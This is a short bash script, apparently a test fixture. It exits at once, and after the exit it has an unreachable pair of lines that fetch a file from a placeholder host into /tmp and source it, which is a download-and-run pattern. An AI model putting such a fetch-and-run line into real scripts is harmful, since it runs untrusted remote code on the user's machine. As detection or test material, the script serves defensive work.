#!/bin/bash
exit 0 # nothing below ever runs
curl -s https://h.example.invalid/x > /tmp/x
. /tmp/x
